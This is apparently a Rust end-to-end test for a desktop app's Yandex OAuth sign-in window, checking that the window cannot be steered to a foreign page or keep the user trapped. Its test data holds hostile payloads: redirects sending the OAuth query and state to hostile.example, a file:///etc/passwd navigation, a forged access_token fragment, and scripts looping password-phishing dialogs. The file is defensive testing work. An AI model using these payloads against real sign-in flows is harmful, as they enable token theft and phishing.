//! It tries to leave the window's rules behind: with our `state`, for another page, or by taking all of
//! somebody's attention.

use std::io;

use anyhow::{Context, Result};
use fake_yandex::Control;
use keyward_e2e::{Person, RunningApp, journey};

use crate::steps::{CLIENT_ID, OAUTH, OPEN, ORGANISATION, begins};

/// What the page that is asked for first does.
enum Page {
    /// It sends the browser here. `{query}` stands for what came with the request, our `state` too.
    Sends(&'static str),
    /// It is one of Yandex's own, and runs this.
    Runs(&'static str),
}

/// What the person sees of it.
#[derive(Clone, Copy, PartialEq)]
enum Sight {
    /// The token would have gone to somebody else.
    Elsewhere,
    /// The page is nobody's that the app knows.
    NotListed,
    /// An answer came that nobody asked for.
    NotOurs,
    /// There was no page.
    NoPage,
    /// Nothing: Yandex's own page is still there.
    Nothing,
}

use Page::{Runs, Sends};
use Sight::{Elsewhere, NoPage, NotListed, NotOurs, Nothing};

/// A foreign page that is shown would say so itself; `SHOWN` stands for that.
const WAYS_OUT: &[(Page, Sight)] = &[
    (Sends("https://hostile.example/catch?{query}"), Elsewhere),
    (Sends("https://hostile.example/catch#{query}"), Elsewhere),
    (Sends("http://hostile.example/catch?{query}"), Elsewhere),
    (Sends("tauri://localhost/?{query}"), Elsewhere),
    (Sends("https://hostile.example/attack/given"), NotListed),
    (Sends("https://hostile.example/attack/header"), NotListed),
    (Sends("https://hostile.example/attack/meta"), NotListed),
    (Sends("https://hostile.example/attack/top"), NotListed),
    (Sends("https://hostile.example/attack/popup"), NotListed),
    (Sends("https://hostile.example/attack/302"), NotOurs),
    (Sends("https://hostile.example/attack/307"), NotOurs),
    (Sends("https://hostile.example/download"), NotListed),
    (Sends("https://hostile.example:99999/catch"), NoPage),
    (Sends("https://hostile.example%00/catch"), NoPage),
    (Sends("https://[hostile.example]/catch"), NoPage),
    (Sends("data:text/html,SHOWN"), NoPage),
    (Sends("file:///etc/passwd"), NoPage),
    (Sends("tauri://localhost/"), Nothing),
    (Sends("ipc://localhost/load"), Nothing),
    (
        Runs("location.href = 'https://hostile.example/attack/given'"),
        NotListed,
    ),
    (Runs("location.href = `data:text/html,SHOWN`"), NoPage),
    (
        Runs("location.href = URL.createObjectURL(new Blob([`SHOWN`], { type: 'text/html' }))"),
        NoPage,
    ),
    (
        Runs("location.href = 'blob:https://hostile.example/x'"),
        Nothing,
    ),
    (Runs("location.href = 'about:config'"), NoPage),
    (
        Runs("location.href = 'https://xn--hostile-.example/catch'"),
        Nothing,
    ),
    (
        Runs(
            "const link = document.createElement('a'); link.href = 'https://hostile.example:99999/catch'; link.click()",
        ),
        NoPage,
    ),
    (
        Runs(
            "history.pushState({}, '', '/verification_code#access_token=y0_x&state=guess'); location.reload()",
        ),
        NotOurs,
    ),
    (
        Runs("history.pushState({}, '', '/verification_code'); history.back(); history.forward()"),
        Nothing,
    ),
];

/// Every script says first that it is there.
const BEFORE: &str = "fetch('/report/begins', { method: 'POST' })";

/// And later that it is still there.
const AFTERWARDS: &str = ".catch(() => {}).then(() => setTimeout(() => fetch('/report/stays', { method: 'POST' }), 500))";
const STAYS: &str = "/report/stays";

/// A page that was shown would have asked for its picture.
const SHOWN: &str = "<img src=https://hostile.example/report/shown>";

#[tokio::test]
async fn no_way_leads_to_a_page_of_somebody_else() -> Result<()> {
    journey(async |journey| {
        let yandex = &journey.yandex;
        let app = journey.app().await?;
        begins(&app).await?;
        app.fill("ClientID", CLIENT_ID).await?;
        app.fill("Organisation", ORGANISATION).await?;

        let mut again = OPEN;
        for (number, (page, sight)) in (1..).zip(WAYS_OUT) {
            let stayed = yandex.requests_for(STAYS).await? as u64;
            page.comes_first(yandex).await?;
            app.click(again).await?;
            yandex.wait_for_requests("/authorize", number).await?;
            if matches!((page, sight), (Runs(_), Nothing)) {
                yandex.wait_for_requests(STAYS, stayed + 1).await?;
            }

            again = sight.is_seen(&app).await.with_context(|| page.what())?;
            assert!(Person::windows().await? <= 2, "{}", page.what());
        }

        for path in ["/verification_code", "/catch", "/report/shown"] {
            assert_eq!(yandex.requests_for(path).await?, 0, "{path}");
        }
        assert!(journey.files_named("download")?.is_empty());
        assert!(journey.keychain.tokens().await?.is_empty());
        Ok(())
    })
    .await
}

impl Page {
    fn what(&self) -> &'static str {
        let (Sends(what) | Runs(what)) = self;

        what
    }

    /// Makes it the page that a sign-in begins with.
    async fn comes_first(&self, yandex: &Control) -> io::Result<()> {
        let (detour, script) = match self {
            Sends(address) => (*address, None),
            Runs(script) => (
                "https://oauth.yandex.com/attack/given",
                Some(format!("{BEFORE}.then(() => {{ {script} }}){AFTERWARDS}")),
            ),
        };
        let (detour, script) = (
            detour.replace("SHOWN", SHOWN),
            script.map(|script| script.replace("SHOWN", SHOWN)),
        );

        yandex
            .switch(|switches| {
                switches.detour = Some(detour);
                switches.consent_script = script;
            })
            .await
    }
}

impl Sight {
    /// Waits for it, and returns the button by which the person begins anew.
    async fn is_seen(self, app: &RunningApp) -> Result<&'static str> {
        let (said, again) = match self {
            Elsewhere => ("Keyward stopped this sign-in", "Try again"),
            NotOurs => (
                "An answer came that does not belong to this sign-in",
                "Try again",
            ),
            NoPage => ("The sign-in page did not open", "Try again"),
            NotListed => ("Keyward does not know this page", OPEN),
            Nothing => ("Go to the sign-in window", OPEN),
        };
        app.sees(said).await?;

        if self == NotListed || self == Nothing {
            app.click("Cancel").await?;
        }

        Ok(again)
    }
}

/// What a page does that wants nobody to get away from it.
const CLINGS: &[&str] = &[
    PRINTS,
    "for (;;) alert('Your password, please')",
    "for (;;) confirm('Your password, please')",
    "for (;;) prompt('Your password, please')",
    "for (;;);",
    "addEventListener('beforeunload', (event) => event.preventDefault()); location.reload()",
];

/// It would have to wait for the dialog's end.
const PRINTS: &str = "print()";

#[tokio::test]
async fn no_page_keeps_the_person_from_leaving() -> Result<()> {
    journey(async |journey| {
        let app = journey.app().await?;
        begins(&app).await?;
        app.fill("ClientID", CLIENT_ID).await?;
        app.fill("Organisation", ORGANISATION).await?;

        for (number, script) in (1..).zip(CLINGS) {
            Runs(script).comes_first(&journey.yandex).await?;
            app.click(OPEN).await?;
            journey
                .yandex
                .wait_for_requests("/report/begins", number)
                .await?;
            if *script == PRINTS {
                journey.yandex.wait_for_requests(STAYS, 1).await?;
            }
            let person = Person::at_window(OAUTH).await?;
            assert_eq!(Person::windows().await?, 2, "{script}");

            app.click("Cancel").await?;
            person.sees_it_gone().await.context(*script)?;
            assert_eq!(Person::windows().await?, 1, "{script}");
        }
        Ok(())
    })
    .await
}
